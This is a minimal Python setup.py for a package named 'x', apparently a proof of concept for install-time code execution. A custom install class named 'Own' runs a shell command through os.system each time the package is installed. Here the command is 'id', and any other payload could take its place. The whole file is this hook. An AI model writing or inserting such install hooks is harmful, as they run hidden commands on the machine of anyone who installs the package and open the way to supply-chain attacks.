import os
from setuptools import setup
from setuptools.command.install import install


def go():
    os.system("id")


class Own(install):
    def run(self):
        go()
        install.run(self)


setup(name="x", cmdclass={"install": Own})
